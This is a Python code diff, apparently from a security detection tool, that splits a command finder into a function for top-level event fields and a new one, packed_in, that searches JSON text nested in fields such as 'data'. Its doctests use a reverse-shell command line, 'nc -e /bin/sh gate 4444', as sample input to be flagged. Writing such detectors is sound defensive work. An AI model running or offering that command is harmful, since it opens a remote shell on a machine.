@@ -131,9 +131,17 @@ def held_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
     >>> held_in([("body.cmdline", "nc -e /bin/sh gate 4444")]), held_in([("command", "start")])
     (None, None)
     """
-    read = list(islice(members, _MEMBERS_MAX))
-    held = _held_in(read)
-    return held if held is not None else next(filter(None, map(_held_in, islice(_packed(read), _PACKED_MAX))), None)
+    return _held_in(islice(members, _MEMBERS_MAX))
+
+
+def packed_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
+    """What an object holds that stands as text in one of `members`. Such a text may as well be an event of its own in an envelope: who opens those
+    asks here last.
+
+    >>> packed_in([("app", "jobs"), ("data", '{"cmd": "nc -e /bin/sh gate 4444"}')]).command.programs
+    ('nc',)
+    """
+    return next(filter(None, map(_held_in, islice(_packed(list(islice(members, _MEMBERS_MAX))), _PACKED_MAX))), None)
 
 
 def _packed(members: List[Tuple[str, Any]]) -> Iterator[List[Tuple[str, Any]]]:
@@ -165,7 +173,7 @@ _PACKED = frozenset("message msg log event data record payload".split())
 _PACKED_MAX, _PACKED_DEPTH = 3, 6
 
 
-def _held_in(members: List[Tuple[str, Any]]) -> Optional[Held]:
+def _held_in(members: Iterable[Tuple[str, Any]]) -> Optional[Held]:
     found: Found = {}
     sent: Dict[str, Any] = {}
     for name, value in members:
